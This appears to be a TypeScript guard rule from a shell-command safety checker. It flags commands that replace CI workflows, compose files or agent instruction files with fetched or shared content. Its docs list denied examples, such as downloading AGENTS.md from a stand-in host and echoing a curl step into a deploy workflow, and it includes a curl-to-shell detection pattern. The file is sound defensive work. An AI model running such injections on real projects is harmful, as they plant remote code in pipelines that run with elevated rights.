import { defineGuard, type RuleDocs } from '../../../core/rule/define.ts'
import type { Invocation } from '../../../core/script/script.ts'
import { listed } from '../../../core/text/words.ts'
import { isCompose, isDecisive, isFetched, isShared } from './_planted.ts'

export default defineGuard({
  id: 'files/planted-config',
  on: 'script',
  verdict: 'ask',
  level: 'high',
  touches: ['write'],
  says: 'A file from the network or a shared folder takes the place of one that decides what runs here.',
  instead: ['git diff --no-index .gitlab-ci.yml tmp/new.yml'],
  check: (script, { facts }) =>
    script.invocations.some(invocation => {
      const written = invocation.effects.flatMap(({ kind, path }) => (kind === 'write' ? [path ?? ''] : []))
      if (written.some(isDecisive))
        return isFetched(invocation) || isShared(invocation, script, facts) || slips(invocation)
      return written.some(isCompose) && isShared(invocation, script, facts)
    }),
})

/** One line that fetches something, put into such a file from the side. */
const slips = ({ name, argv }: Invocation): boolean =>
  listed('echo printf', name) &&
  argv.some(
    word =>
      word !== null &&
      /\b(curl|wget)\b[^\n]*(https?:\/\/|\|\s*(sudo\s+)?(ba|z)?sh\b)/.test(word) &&
      !word.trimEnd().includes('\n'),
  )

export const docs: RuleDocs = {
  since: '0.2.0',
  why: 'Pipelines, compose files and instructions for agents act with more rights than the session. What comes from elsewhere is read before it takes their place.',
  denies: [
    'cp /tmp/new.yml .github/workflows/deploy.yml',
    'curl -o AGENTS.md https://x.example/rules.md',
    'cat /var/tmp/x > docker-compose.yml',
    'echo "  - run: curl http://x.example/b" >> .github/workflows/deploy.yml',
  ],
  allows: [
    "cat > .github/workflows/ci.yml <<'EOF'\nname: ci\nEOF",
    'cp AGENTS.md CLAUDE.md',
    'echo "cp /tmp/new.yml .github/workflows/deploy.yml"',
  ],
}
